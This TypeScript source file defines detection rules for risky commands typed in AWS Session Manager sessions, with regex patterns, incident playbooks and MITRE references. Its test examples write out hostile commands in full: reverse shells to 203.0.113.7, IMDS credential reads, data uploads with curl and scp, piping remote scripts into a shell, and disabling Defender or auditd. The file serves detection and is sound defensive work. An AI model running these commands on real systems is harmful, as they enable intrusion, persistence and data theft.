import type { CatalogueRule } from './types';

/**
 * Risky commands typed in a session, as data. Patterns run on the COMMAND text after the prompt
 * (never on program output), so `less runbook.md` showing the word "curl" stays quiet. Patterns are
 * linear (no nested quantifiers) and case-insensitive where the shell or PowerShell is.
 * A command cancelled with ^C is reported one severity lower by the detector.
 */
export interface CommandRule extends CatalogueRule<string> {
  kind: string;
  patterns: RegExp[];
}

const ATTACK = 'https://attack.mitre.org/techniques';

/*
 * Linear forms of the shapes that made rules quadratic. Each keeps `test` exactly as the plain form
 * answers it on one command line (a command never holds a line break), property-tested against the
 * plain forms in test/rules/command-rules.test.ts:
 * - a name, then any characters of a class, then a tail (`\bcurl\b[^|;&]*\s-T…`): a line of `curl curl
 *   curl …` rescanned the rest of the line from every name (quadratic). In `scoped` the filler stops at the next occurrence of the name: a match that crossed one
 *   is found again from that later name, because no tail can start inside a name.
 * - a name, its flags, then a word (`\bsudo\s+(?:-\S+\s+)*su\b`): `sudo -sudo -sudo …` walked every
 *   following flag from every name. In `flagsThen` the flag list stops at a flag ending in the name
 *   (`-sudo `), from which the same match is found.
 */

/** `head`, then `filler` characters that do not start another `head` (as a source string). */
function scopedHead(head: string, filler: string): string {
  return `${head}(?:(?!${head})${filler})*`;
}

/** `head filler* tail` with the filler scoped to this head (source string, to nest in `scoped`). */
function scopedTail(head: string, filler: string, tail: string): string {
  return `${scopedHead(head, filler)}${tail}`;
}

/** Case-insensitive `head filler* tail`, linear (see above). */
function scoped(head: string, filler: string, tail: string): RegExp {
  return new RegExp(scopedTail(head, filler, tail), 'i');
}

/** Source of `head`, then `filler` characters that start neither another head nor `stop`, then `stop`. */
function upTo(head: string, filler: string, stop: string): string {
  return `${head}(?:(?!${head}|${stop})${filler})*${stop}`;
}

/**
 * Case-insensitive `first rest`, where only the text's first occurrence of `first` is tried. Exact
 * when a later occurrence can only leave less room for `rest` (`rest` starts with `.*`), and linear:
 * trying every occurrence rescanned the rest of the line from each.
 */
function firstThen(first: string, rest: string): RegExp {
  return new RegExp(`^(?:(?!${first})[\\s\\S])*${first}${rest}`, 'i');
}

/** `\bname\s+`, flags `-x ` that do not end in `name`, then `word` (source string). */
function flagsThenSource(name: string, word: string): string {
  return String.raw`\b${name}\s+(?:(?!-\S*\b${name}\s)-\S+\s+)*${word}`;
}

/** Case-insensitive `\bname\s+(?:-\S+\s+)*word`, linear (see above). */
function flagsThen(name: string, word: string): RegExp {
  return new RegExp(flagsThenSource(name, word), 'i');
}

/** Instance metadata service address, IPv4 or IPv6. */
const IMDS = String.raw`(?:169\.254\.169\.254|\[?fd00:ec2::254\]?)`;
/**
 * The agent and its setup tool, as a program word: after a blank, a quote, a path separator or `&`,
 * and followed by a blank, a quote or the end (`/snap/amazon-ssm-agent/current/amazon-ssm-agent`
 * names the program once, `amazon-ssm-agent.json` not at all).
 */
const SSM_AGENT = String.raw`(?<![\w.-])amazon-ssm-agent(?:\.exe)?(?=["']?(?:\s|$))`;
const SSM_SETUP = String.raw`(?<![\w.-])ssm-setup-cli(?:\.exe)?(?=["']?(?:\s|$))`;
/** A flag of Go's flag package (`-x`, `--x`, `-x=v`), quoted or not, as a whole word. */
function goFlag(name: string): string {
  return String.raw`\s["']?--?${name}(?=[\s="']|$)`;
}
/** `program`, then (in any order, in the same command) every flag of `flags`: one lookahead each. */
function programWithFlags(program: string, flags: readonly string[]): RegExp {
  // Each lookahead's filler stops at the next occurrence of the program (as in `scoped`): linear.
  const filler = `(?:(?!${program})[^|;&])*`;
  return new RegExp(program + flags.map((f) => `(?=${filler}${goFlag(f)})`).join(''), 'i');
}

/**
 * The value of an activation code: a flag (`-code X`, `--code=X`, `-activation-code "X"`) or a
 * variable set on the same line (`code=X`, `ACTIVATION_CODE="X"`, PowerShell `$code = 'X'`). A value
 * is a quoted string or the rest of the word (more is masked rather than less).
 */
const ACTIVATION_CODE =
  /(\s["']?--?(?:activation-)?code["']?(?:=|\s+)|(?:^|[\s;&|(])\$?(?:activation[_-]?)?code\s*=\s*)(?:"[^"]{0,256}"|'[^']{0,256}'|\S+)/gi;
const AGENT_NAMES = /amazon-ssm-agent|ssm-setup-cli/i;

/**
 * A command with the activation code of an agent registration masked (`-code ****`): the code is a
 * credential (with the activation id it registers any machine into the account until the activation
 * expires), so no excerpt may show it. The activation id stays: it alone registers nothing.
 * Only commands naming the agent or its setup tool are touched. Linear: one global pass.
 */
export function maskActivationCode(command: string): string {
  if (!AGENT_NAMES.test(command)) return command;
  return command.replace(ACTIVATION_CODE, '$1****');
}

const INVOKE_WEB = String.raw`\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b`;

export const COMMAND_RULES: CommandRule[] = [
  {
    id: 'cmd-reverse-shell',
    kind: 'REVERSE_SHELL',
    category: 'risky-command',
    severity: 'CRITICAL',
    title: 'Reverse shell command',
    description:
      'A command that connects a shell to a remote host (/dev/tcp, nc/ncat -e, socat exec, python/perl sockets). It hands the instance to whoever listens on the other end.',
    playbook: [
      'Terminate the session and isolate the instance (security group without egress).',
      'Block the destination address and look for it in VPC flow logs.',
      'Review who started the session and revoke their access until explained.',
    ],
    references: [`${ATTACK}/T1059/004/`],
    patterns: [
      /\/dev\/(?:tcp|udp)\/[\w.:-]+\/\d+/i,
      scoped(String.raw`\b(?:nc|ncat|netcat)(?:\.\w+)?\b`, '[^|;&]', String.raw`\s-[a-z]*[ec]\b`),
      scoped(String.raw`\bsocat\b`, '[^|;&]', String.raw`\b(?:exec|system):`),
      // The socket call may come after a `;`: only the first interpreter and flag of the line is
      // tried on to it (it leaves the most room), not every one.
      firstThen(
        upTo(String.raw`\b(?:python[\d.]*|perl|ruby|php)\b`, '[^|;&]', String.raw`-[a-z]*[ecr]\b`),
        String.raw`.*\b(?:socket|pty\.spawn|fsockopen|TCPSocket)\b`,
      ),
      /\bbash\s+-i\s*>&/i,
      scoped(String.raw`\bmkfifo\b`, '.', String.raw`\|\s*(?:nc|ncat|netcat)\b`),
    ],
    examples: {
      match: [
        'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
        'nc -e /bin/sh 203.0.113.7 4444',
        'ncat 203.0.113.7 4444 -e /bin/bash',
        'socat tcp:203.0.113.7:4444 exec:/bin/sh,pty,stderr',
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));pty.spawn("/bin/sh")\'',
        'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f',
      ],
      noMatch: ['nc -zv db.internal 5432', 'ls /dev/tcp', 'python3 -c "print(1)"', 'socat -V'],
    },
  },
  {
    id: 'cmd-imds-credentials',
    kind: 'IMDS_CREDENTIAL_ACCESS',
    category: 'risky-command',
    severity: 'CRITICAL',
    title: 'Instance role credentials read from IMDS',
    description:
      "The instance metadata service was asked for the instance role's temporary credentials. Whoever reads them can act as the instance from anywhere until they expire.",
    playbook: [
      'Check CloudTrail for calls made with the role session of this instance from other IP addresses.',
      'If used elsewhere, revoke the role sessions (AWSRevokeOlderSessions) and rotate what the role can reach.',
      'Require IMDSv2 with a hop limit of 1 and review who may start sessions on this target.',
    ],
    references: [`${ATTACK}/T1552/005/`],
    patterns: [
      scoped(IMDS, String.raw`\S`, String.raw`\/iam\/security-credentials`),
      scoped(IMDS, String.raw`\S`, String.raw`\/identity-credentials\/`),
      scoped(String.raw`\bGet-EC2InstanceMetadata\b`, '.', String.raw`\bIamSecurityCredential`),
    ],
    examples: {
      match: [
        'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        'curl -H "X-aws-ec2-metadata-token: $T" http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/app',
        'wget -qO- 169.254.169.254/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance',
      ],
      noMatch: ['curl -s http://169.254.169.254/latest/meta-data/instance-id', 'aws iam list-roles'],
    },
  },
  {
    id: 'cmd-imds-token',
    kind: 'IMDS_CREDENTIAL_ACCESS',
    category: 'risky-command',
    severity: 'MEDIUM',
    title: 'IMDSv2 session token requested by hand',
    description:
      'An IMDSv2 token was requested interactively: the first step of reading instance metadata, including role credentials.',
    playbook: [
      'Look at the next commands of the session for metadata or credential reads.',
      'Confirm the operator had a reason to query instance metadata.',
    ],
    references: [`${ATTACK}/T1552/005/`],
    patterns: [/\/latest\/api\/token\b/i],
    examples: {
      match: [
        'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
        'Invoke-RestMethod -Method PUT -Uri http://169.254.169.254/latest/api/token -Headers @{"X-aws-ec2-metadata-token-ttl-seconds"="60"}',
      ],
      noMatch: ['curl https://api.example.com/token', 'cat /latest/api/tokens.txt'],
    },
  },
  {
    id: 'cmd-shadow-read',
    kind: 'SHADOW_READ',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'Password hash file accessed',
    description: '/etc/shadow or /etc/gshadow was read or copied: password hashes can be cracked offline.',
    playbook: [
      'Check whether the read succeeded (root session) from the session output.',
      'If it did, rotate the passwords of local accounts and look for cracking attempts elsewhere.',
    ],
    references: [`${ATTACK}/T1003/008/`],
    patterns: [/\/etc\/g?shadow(?![\w.-])/i, /\bunshadow\b/i],
    examples: {
      match: ['cat /etc/shadow', 'sudo cp /etc/gshadow /tmp/x', 'unshadow /etc/passwd s.txt'],
      noMatch: ['cat /etc/passwd', 'ls /etc/shadow-utils.conf', 'man shadow'],
    },
  },
  {
    id: 'cmd-root-shell',
    kind: 'PRIVILEGE_ESCALATION',
    category: 'risky-command',
    severity: 'MEDIUM',
    title: 'Interactive root shell opened',
    description:
      'The operator switched to an interactive root shell (sudo su, sudo -i/-s, su -). Later commands run as root and are attributed only to the session.',
    playbook: [
      'Confirm the operator is expected to have root on this target.',
      'Review the rest of the session for changes made as root.',
    ],
    references: [`${ATTACK}/T1548/003/`],
    patterns: [
      flagsThen('sudo', String.raw`su\b`),
      /\bsudo\s+-(?=[a-z]*[is])[a-z]+(?:\s|$)/i,
      /(?:^|[;&|]\s*)su(?:\s+-\s*|\s+-l\s*|\s+root\s*|\s*)(?:$|[;&|])/i,
      /\bsudo\s+(?:bash|sh|zsh)\s*$/i,
    ],
    examples: {
      match: ['sudo su -', 'sudo su', 'sudo -i', 'sudo -s', 'su -', 'su root', 'sudo bash'],
      noMatch: ['sudo systemctl status nginx', 'sudo -u app ls', 'sum -r file', 'suspend', 'sudo -l'],
    },
  },
  {
    id: 'cmd-admin-group-add',
    kind: 'PRIVILEGE_ESCALATION',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'Account added to an administrators group',
    description:
      'An account was added to the local administrators, wheel or sudo group: lasting admin rights outside of IAM.',
    playbook: [
      'Remove the account from the group unless a change ticket covers it.',
      'Find who created the account and what else it did.',
    ],
    references: [`${ATTACK}/T1098/007/`],
    patterns: [
      scoped(String.raw`\bnet\s+localgroup\s+administrators\b`, '.', String.raw`\/add\b`),
      scoped(String.raw`\bAdd-LocalGroupMember\b`, '.', String.raw`\bAdministrators\b`),
      // `-…G` then the group in the same word after its first G, or in the next word after a final G:
      // `-[a-z]*G\s*\S*` tried every G of a long flag with every split after it.
      scoped(
        String.raw`\busermod\b`,
        '.',
        String.raw`\s-(?:[a-fh-z]*G\S*|[a-z]*G\s+\S*)\b(?:wheel|sudo|admin)\b`,
      ),
      /\bgpasswd\s+-a\s+\S+\s+(?:wheel|sudo|admin)\b/i,
    ],
    examples: {
      match: [
        'net localgroup administrators backdoor /add',
        'Add-LocalGroupMember -Group "Administrators" -Member backdoor',
        'usermod -aG wheel backdoor',
        'gpasswd -a backdoor sudo',
      ],
      noMatch: ['net localgroup administrators', 'usermod -s /bin/bash app', 'groups backdoor'],
    },
  },
  {
    id: 'cmd-sudoers-tampering',
    kind: 'SUDOERS_TAMPERING',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'sudoers configuration changed',
    description:
      'The sudoers configuration was edited (visudo, writes to /etc/sudoers or /etc/sudoers.d/, including the ssm-agent-users file Session Manager relies on).',
    playbook: [
      'Diff /etc/sudoers and /etc/sudoers.d/ against the baseline (config management, AMI).',
      'Restore the expected file and review what the new rules allowed.',
    ],
    references: [`${ATTACK}/T1548/003/`],
    patterns: [
      /\/etc\/sudoers\.d\/ssm-agent-users\b/i,
      /\bvisudo\b/i,
      new RegExp(
        `(?:>>?|${scopedHead(String.raw`\btee\b`, '[^|;&]')}|${scopedHead(String.raw`\bsed\s+-i\b`, '[^|;&]')}|${scopedHead(String.raw`\b(?:vi|vim|nano|emacs|cp|mv|chmod|chown|rm)\b`, '[^|;&]')})${String.raw`\s\/etc\/sudoers(?:\.d\/\S*)?`}`,
        'i',
      ),
    ],
    examples: {
      match: [
        "sed -i 's/^/#/' /etc/sudoers.d/ssm-agent-users",
        'visudo',
        'echo "app ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
        'echo "x ALL=(ALL) ALL" | tee /etc/sudoers.d/x',
        'vi /etc/sudoers',
      ],
      noMatch: ['ls /etc/sudoers.d/', 'sudo -l', 'grep admin /etc/sudoers'],
    },
  },
  {
    id: 'cmd-agent-stopped',
    kind: 'AGENT_STOPPED',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'SSM agent stopped or disabled',
    description:
      'amazon-ssm-agent was stopped, disabled or masked: session logging and management of the instance stop with it.',
    playbook: [
      'Check the managed-node status in Systems Manager (ping status) and restart the agent.',
      'Treat the rest of the session as unlogged and review the instance from another channel.',
    ],
    references: [`${ATTACK}/T1562/001/`],
    patterns: [
      scoped(
        flagsThenSource('systemctl', String.raw`(?:stop|disable|mask|kill)\b`),
        '[^|;&]',
        String.raw`\bamazon-ssm-agent\b`,
      ),
      /\bservice\s+amazon-ssm-agent\s+stop\b/i,
      scoped(String.raw`\bsnap\s+(?:stop|disable|remove)\b`, '[^|;&]', String.raw`\bamazon-ssm-agent\b`),
      scoped(String.raw`\b(?:Stop-Service|Set-Service)\b`, '[^|;&]', String.raw`\bAmazonSSMAgent\b`),
      /\b(?:net\s+stop|sc(?:\.exe)?\s+(?:stop|config))\s+AmazonSSMAgent\b/i,
      scoped(String.raw`\b(?:pkill|killall)\b`, '[^|;&]', String.raw`\bamazon-ssm-agent\b`),
    ],
    examples: {
      match: [
        'systemctl stop amazon-ssm-agent',
        'sudo systemctl disable --now amazon-ssm-agent',
        'service amazon-ssm-agent stop',
        'snap stop amazon-ssm-agent',
        'Stop-Service AmazonSSMAgent',
        'net stop AmazonSSMAgent',
      ],
      noMatch: [
        'systemctl status amazon-ssm-agent',
        'systemctl restart amazon-ssm-agent',
        'Get-Service AmazonSSMAgent',
      ],
    },
  },
  {
    id: 'cmd-agent-hijack',
    kind: 'AGENT_HIJACK',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'SSM agent registered with another activation',
    description:
      'amazon-ssm-agent (or ssm-setup-cli) was registered with an activation code and id: the machine becomes a managed node of whichever account issued the activation, possibly not ours, which then gets a remote shell on it and stops seeing it here.',
    playbook: [
      'Compare the activation id in the excerpt with the activations of our accounts (aws ssm describe-activations); an unknown one means another account now controls the machine.',
      'Check the node in Fleet Manager: a new managed-node id (mi-…) or a missing ping means it left our account.',
      'Re-register the agent with our own activation or from the instance profile, and treat the machine as compromised until explained.',
    ],
    references: [
      `${ATTACK}/T1219/`,
      'https://docs.aws.amazon.com/systems-manager/latest/userguide/hybrid-multicloud-ssm-agent-install-linux.html',
    ],
    patterns: [
      programWithFlags(SSM_AGENT, ['register', 'code']),
      programWithFlags(SSM_SETUP, ['register', 'activation-code']),
    ],
    examples: {
      match: [
        'sudo amazon-ssm-agent -register -code "fjz3Qv7XbDv8EXAMPLE1" -id "e488f2f6-e686-4afb-8a04-ef6dfEXAMPLE" -region "us-east-2"',
        'sudo -E amazon-ssm-agent -y -register -id e488f2f6-e686-4afb-8a04-ef6dfEXAMPLE -region eu-west-1 -code fjz3Qv7XbDv8EXAMPLE1',
        'sudo /usr/bin/amazon-ssm-agent -register -clear -code fjz3Qv7XbDv8EXAMPLE1 -id e488f2f6-e686-4afb-8a04-ef6dfEXAMPLE',
        'sudo systemctl stop amazon-ssm-agent && sudo /snap/amazon-ssm-agent/current/amazon-ssm-agent --register --code=fjz3Qv7XbDv8EXAMPLE1 --id=e488f2f6-e686-4afb-8a04-ef6dfEXAMPLE --region=us-east-1',
        '& "C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe" -register -code $code -id $id -region us-east-1',
        '.\\amazon-ssm-agent.exe -register -code "fjz3Qv7XbDv8EXAMPLE1" -id "e488f2f6-e686-4afb-8a04-ef6dfEXAMPLE" -region "us-east-1"',
        'sudo ./ssm-setup-cli -register -activation-code "fjz3Qv7XbDv8EXAMPLE1" -activation-id "e488f2f6-e686-4afb-8a04-ef6dfEXAMPLE" -region "us-east-2"',
      ],
      noMatch: [
        'amazon-ssm-agent -version',
        'systemctl status amazon-ssm-agent',
        'man amazon-ssm-agent',
        'grep register /etc/amazon/ssm/amazon-ssm-agent.json.template',
        'cat /usr/share/doc/amazon-ssm-agent/README.md',
        'grep -rn -- -register /var/log/amazon/ssm/amazon-ssm-agent.log',
        'cat register-amazon-ssm-agent.sh',
        'tail -f /var/log/amazon/ssm/amazon-ssm-agent.log | grep -- "-register -code"',
        'sudo amazon-ssm-agent -fingerprint',
        './ssm-setup-cli -version',
      ],
    },
  },
  {
    id: 'cmd-history-tampering',
    kind: 'HISTORY_TAMPERING',
    category: 'risky-command',
    severity: 'MEDIUM',
    title: 'Shell history cleared or disabled',
    description: 'Command history was cleared or switched off: a common step to hide what was done.',
    playbook: [
      'Rely on this session log for what was typed; compare with the history file left on the host.',
      'Ask the operator why history was disabled.',
    ],
    references: [`${ATTACK}/T1070/003/`],
    patterns: [
      /\bhistory\s+-[a-z]*c/i,
      /\bhistory\s+-w\s+\/dev\/null/i,
      /\bunset\s+(?:-v\s+)?HISTFILE\b/i,
      /\bHISTFILE=\/dev\/null\b/i,
      /\bHISTSIZE=0\b/i,
      /\bset\s+\+o\s+history\b/i,
      scoped(String.raw`\b(?:rm|shred|truncate)\b`, '[^|;&]', String.raw`\.(?:bash|zsh|sh)_history\b`),
      />\s*~?[^\s>]*\.(?:bash|zsh)_history\b/i,
      /\bClear-History\b/i,
      scoped(String.raw`\bRemove-Item\b`, '[^|;&]', 'HistorySavePath'),
      scoped(String.raw`\bSet-PSReadLineOption\b`, '[^|;&]', String.raw`-HistorySaveStyle\s+SaveNothing`),
    ],
    examples: {
      match: [
        'history -c',
        'unset HISTFILE',
        'export HISTFILE=/dev/null',
        'HISTSIZE=0',
        'rm -f ~/.bash_history',
        'Clear-History',
        'Remove-Item (Get-PSReadlineOption).HistorySavePath',
      ],
      noMatch: ['history', 'history | tail', 'echo $HISTFILE', 'cat ~/.bash_history'],
    },
  },
  {
    id: 'cmd-ssh-key-persistence',
    kind: 'PERSISTENCE_SSH_KEY',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'SSH key added for persistence',
    description:
      'A public key was appended to authorized_keys (or pushed with ssh-copy-id): SSH access that survives the session and bypasses Session Manager.',
    playbook: [
      'Remove unknown keys from the authorized_keys files of every account on the target.',
      'Check whether port 22 is reachable and who connected with the key.',
    ],
    references: [`${ATTACK}/T1098/004/`],
    patterns: [
      />>?\s*[^\s>]*authorized_keys2?\b/i,
      scoped(String.raw`\btee\b`, '[^|;&]', String.raw`authorized_keys2?\b`),
      /\bssh-copy-id\b/i,
      scoped(String.raw`\b(?:cp|mv)\b`, '[^|;&]', String.raw`\sauthorized_keys2?\b`),
    ],
    examples: {
      match: [
        "echo 'ssh-rsa AAAAB3Nza attacker@evil' >> ~/.ssh/authorized_keys",
        'cat k.pub | tee -a /root/.ssh/authorized_keys',
        'ssh-copy-id user@host',
      ],
      noMatch: ['cat ~/.ssh/authorized_keys', 'ls -la ~/.ssh'],
    },
  },
  {
    id: 'cmd-user-created',
    kind: 'USER_CREATED',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'Local user account created',
    description:
      'A local account was created on the target: a persistence path outside IAM and Session Manager.',
    playbook: [
      'Confirm a change ticket covers the account; otherwise disable and remove it.',
      'Look for keys, group memberships and services added for the account.',
    ],
    references: [`${ATTACK}/T1136/001/`],
    patterns: [
      new RegExp(
        String.raw`(?:^|[;&|]\s*|${flagsThenSource('sudo', '')})(?:useradd|adduser|newusers)\b`,
        'i',
      ),
      // Only the line's first `net user X` is tried (it leaves the most room for `/add` after it).
      firstThen(String.raw`\bnet\s+user\s+\S`, String.raw`.*\/add\b`),
      /\bNew-LocalUser\b/i,
    ],
    examples: {
      match: [
        'useradd -m backdoor',
        'sudo adduser eve',
        'net user backdoor P@ssw0rd /add',
        'New-LocalUser -Name eve',
      ],
      noMatch: ['id backdoor', 'net user', 'getent passwd eve', 'man useradd.8'],
    },
  },
  {
    id: 'cmd-exfiltration',
    kind: 'EXFILTRATION',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'Data sent off the instance',
    description:
      'A command uploads local data elsewhere (aws s3 cp/sync/mv to a bucket, scp to a remote host, curl/wget uploads, PowerShell web requests with a file body).',
    playbook: [
      'Identify the destination (bucket owner, host) and what was sent.',
      'If the destination is not ours, treat the data as disclosed and start the incident process.',
    ],
    references: [`${ATTACK}/T1048/`, `${ATTACK}/T1567/002/`],
    patterns: [
      // Flags, one source (the first word that is not a flag, or a flag), flags, then the s3:// target;
      // the source is pinned so the two flag lists cannot trade flags (quadratic in the flags).
      /\baws\s+s3\s+(?:cp|mv|sync)\s+(?:(?:--?\S+\s+)*(?!s3:\/\/)(?!--?\S)\S+\s+(?:--?\S+\s+)*|(?:--?\S+\s+)+)s3:\/\//i,
      /\baws\s+s3api\s+put-object\b/i,
      // An `scp` that ends a flag of an earlier `scp`'s flag list is not tried again: the earlier one
      // can do all it can (`scp -scp -scp …` walked every later flag from every name). The look-back
      // is lazy, so it stops at the nearest `scp` before.
      /(?<!\bscp(?:\s+-\S+(?:\s+\d+)?)*?\s+-\S*)\bscp\b(?:\s+-\S+(?:\s+\d+)?)*\s+(?!(?:[\w.-]*@)?[\w.-]+:)\S+\s+\S*[\w.-]:\S*/i,
      scoped(
        String.raw`\bcurl\b`,
        '[^|;&]',
        String.raw`(?:\s-T\s*\S|\s--upload-file\b|\s(?:-d|--data(?:-binary|-raw|-urlencode)?)\s*[\w=]*@\S|\s(?:-F|--form)\s*\S*=@\S)`,
      ),
      scoped(String.raw`\bwget\b`, '[^|;&]', String.raw`--post-file\b`),
      scoped(String.raw`\bbase64\b`, '[^|]', String.raw`\|[^|]*\b(?:curl|wget|nc|ncat)\b`),
      scoped(INVOKE_WEB, '[^|;]', String.raw`\s-InFile\b`),
      scoped(
        INVOKE_WEB,
        '[^|;]',
        scopedTail(
          String.raw`-Method\s+(?:POST|PUT)\b`,
          '[^|;]',
          String.raw`-Body\s+(?:\(\s*)?(?:Get-Content|\[IO\.File\])`,
        ),
      ),
    ],
    examples: {
      match: [
        'aws s3 cp customers.csv s3://exfil-bucket-123/',
        'aws s3 sync /var/lib/db s3://other/ --quiet',
        'scp dump.sql user@203.0.113.7:/tmp/',
        'curl -T dump.sql https://203.0.113.7/upload',
        'curl -X POST -d @/etc/passwd https://203.0.113.7/',
        'curl -F file=@secrets.txt https://203.0.113.7/',
        'base64 -w0 dump.sql | curl -d @- https://203.0.113.7/',
        'Invoke-WebRequest -Uri http://203.0.113.7:4444/upload -Method POST -InFile C:\\secrets.txt',
      ],
      noMatch: [
        'aws s3 cp s3://config-bucket/app.ini .',
        'aws s3 ls s3://bucket/',
        'scp user@host:/tmp/report.txt .',
        'curl -s localhost:8080/healthz',
        'Invoke-WebRequest -Uri https://example.com -OutFile x.zip',
      ],
    },
  },
  {
    id: 'cmd-download-execute',
    kind: 'DOWNLOAD_EXECUTE',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'Remote script downloaded and executed',
    description:
      'Code fetched from the network is piped straight into an interpreter, without review or integrity check.',
    playbook: [
      'Fetch the same URL from an isolated machine and review what it runs.',
      'Check the instance for the changes the script makes (users, services, cron, binaries).',
    ],
    references: [`${ATTACK}/T1059/`, `${ATTACK}/T1105/`],
    patterns: [
      scoped(
        String.raw`\b(?:curl|wget|fetch)\b`,
        '[^|;&]',
        String.raw`\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k)?sh\b`,
      ),
      scoped(
        String.raw`\b(?:curl|wget)\b`,
        '[^|;&]',
        String.raw`\|\s*(?:sudo\s+)?(?:python[\d.]*|perl|ruby|php)\b`,
      ),
      /\b(?:ba|z)?sh\s+(?:-c\s+)?["']?\$\(\s*(?:curl|wget)\b/i,
      scoped(
        String.raw`\b(?:IEX|Invoke-Expression)\b`,
        '[^;]',
        String.raw`\b(?:DownloadString|DownloadFile|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b`,
      ),
      scoped(
        String.raw`\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b`,
        '[^;]',
        String.raw`\|\s*(?:iex|Invoke-Expression)\b`,
      ),
    ],
    examples: {
      match: [
        'curl -fsSL https://203.0.113.7/x.sh | sh',
        'wget -qO- http://203.0.113.7/i | sudo bash',
        'bash -c "$(curl -fsSL https://203.0.113.7/x.sh)"',
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
        'iwr http://203.0.113.7/a.ps1 | iex',
      ],
      noMatch: ['curl -o x.sh https://example.com/x.sh', 'wget https://example.com/pkg.rpm', 'cat x.sh | sh'],
    },
  },
  {
    id: 'cmd-defense-evasion',
    kind: 'DEFENSE_EVASION',
    category: 'risky-command',
    severity: 'HIGH',
    title: 'Security controls disabled',
    description:
      'Antivirus, audit logging, SELinux or the host firewall was switched off: the usual preparation for actions that should not be seen or blocked.',
    playbook: [
      'Re-enable the control and check its logs for the gap.',
      'Review everything the session did after this command.',
    ],
    references: [`${ATTACK}/T1562/001/`],
    patterns: [
      scoped(
        String.raw`\bSet-MpPreference\b`,
        '[^|;]',
        String.raw`-Disable(?:RealtimeMonitoring|BehaviorMonitoring|IOAVProtection|ScriptScanning)\s+(?:\$true|1)\b`,
      ),
      scoped(String.raw`\bAdd-MpPreference\b`, '[^|;]', String.raw`-ExclusionPath\b`),
      /\bauditctl\s+(?:-e\s*0|-D)\b/i,
      /\b(?:systemctl\s+(?:stop|disable|mask)|service)\s+auditd\b/i,
      /\bsetenforce\s+(?:0|permissive)\b/i,
      flagsThen('iptables', String.raw`-F\b`),
      /\bnetsh\s+advfirewall\s+set\s+\S+\s+state\s+off\b/i,
      scoped(String.raw`\bSet-NetFirewallProfile\b`, '[^|;]', String.raw`-Enabled\s+(?:False|\$false|0)\b`),
      /\bsystemctl\s+(?:stop|disable|mask)\s+(?:falcon-sensor|cloudwatch-agent|amazon-cloudwatch-agent|guardduty-agent)\b/i,
    ],
    examples: {
      match: [
        'Set-MpPreference -DisableRealtimeMonitoring $true',
        'auditctl -e 0',
        'systemctl stop auditd',
        'setenforce 0',
        'iptables -F',
        'netsh advfirewall set allprofiles state off',
      ],
      noMatch: ['Get-MpPreference', 'auditctl -l', 'getenforce', 'iptables -L -n', 'systemctl status auditd'],
    },
  },
  {
    id: 'cmd-secret-file-read',
    kind: 'SECRET_FILE_READ',
    category: 'risky-command',
    severity: 'MEDIUM',
    title: 'Credential file displayed',
    description:
      'A file that usually holds credentials (AWS credentials, private keys, secrets/.env files) was printed to the terminal, and therefore into the session log.',
    playbook: [
      'Check the secret findings of the same session for what was shown.',
      'Rotate the credentials the file holds; the session log now contains them.',
    ],
    references: [`${ATTACK}/T1552/001/`],
    patterns: [
      scoped(
        String.raw`\b(?:cat|less|more|head|tail|bat|strings|xxd|od|type|gc|Get-Content)\b`,
        '[^|;&]',
        String.raw`(?:\.aws[\\/](?:credentials|config)\b|\.pem\b|\.key\b|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|\bsecrets?\.(?:txt|json|ya?ml|env)\b|\.env\b|\.pgpass\b|\.my\.cnf\b|\.netrc\b|\.git-credentials\b|\bunattend\.xml\b)`,
      ),
    ],
    examples: {
      match: [
        'cat ~/.aws/credentials',
        'cat bastion-prod.pem',
        'Get-Content C:\\secrets.txt',
        'type C:\\Users\\admin\\.aws\\credentials',
        'less .env',
        'cat ~/.ssh/id_rsa',
      ],
      noMatch: ['cat ~/.ssh/id_rsa.pub', 'cat app.ini', 'ls *.pem', 'vim secrets-policy.md'],
    },
  },
];
